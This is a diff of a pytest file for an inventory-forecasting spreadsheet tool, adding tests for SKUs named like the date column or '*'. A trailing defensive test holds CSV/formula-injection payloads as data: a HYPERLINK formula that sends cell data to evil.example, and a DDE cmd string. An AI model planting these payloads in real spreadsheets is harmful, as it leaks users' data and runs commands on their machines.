@@ -408,6 +408,34 @@ def test_a_sku_named_date_does_not_replace_the_timeline_dates(tmp_path: Path) ->
     assert sheet.cell(2, column).value == 10 and sheet.cell(2, column).number_format == "#,##0"
 
 
+def test_a_sku_named_like_the_renamed_date_column_keeps_its_own(tmp_path: Path) -> None:
+    path = urgent_book(tmp_path / "t2.xlsx", ["Date (SKU)", "Date"])
+    assert refresh(path).exit_code == ExitCode.OK
+    sheet = openpyxl.load_workbook(path)[wb.TIMELINE]
+    header = [c.value for c in sheet[1]]
+    assert header[0] == "Date" and set(header[1:]) == {"Date (SKU)", "Date (SKU) (SKU)"}
+    assert sheet["A2"].value == day(0)
+    for label, sku in (("Date (SKU)", "Date (SKU)"), ("Date (SKU) (SKU)", "Date")):
+        top = sheet.cell(1, header.index(label) + 1)
+        assert top.comment.text.startswith(f"{sku}: x (")  # the note names the column's own SKU
+        assert sheet.cell(2, header.index(label) + 1).value == 10
+
+
+def test_a_sku_named_star_gets_an_every_sku_promotion_once(tmp_path: Path) -> None:
+    """`*` on Promotions means every SKU; a SKU named `*` is one of them, counted once."""
+    tabs = wb.starter_tabs()
+    tabs[wb.INVENTORY] += [[n, "", "x", 300] for n in ("*", "B-2")]
+    tabs[wb.SALES] += [[day(-b), n, 5, True] for n in ("*", "B-2") for b in range(60, 0, -1)]
+    tabs[wb.PROMOTIONS] += [["*", day(3), day(40), 2.0]]
+    path = tmp_path / "star.xlsx"
+    write_new_workbook(path, tabs)
+    assert refresh(path).exit_code == ExitCode.OK
+    alerts = {r["SKU"]: r for r in tab(path, wb.ALERTS)}
+    for column in ("Days to stockout", "Stockout date", "Forecast", "Reorder qty"):
+        assert alerts["*"][column] == alerts["B-2"][column], column
+    assert alerts["B-2"]["Days to stockout"] < 60  # the promotion counted: 300 units at 5 a day
+
+
 def test_sku_names_in_the_timeline_header_are_never_formulas(tmp_path: Path) -> None:
     evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(1)"]
     path = urgent_book(tmp_path / "f.xlsx", evil)
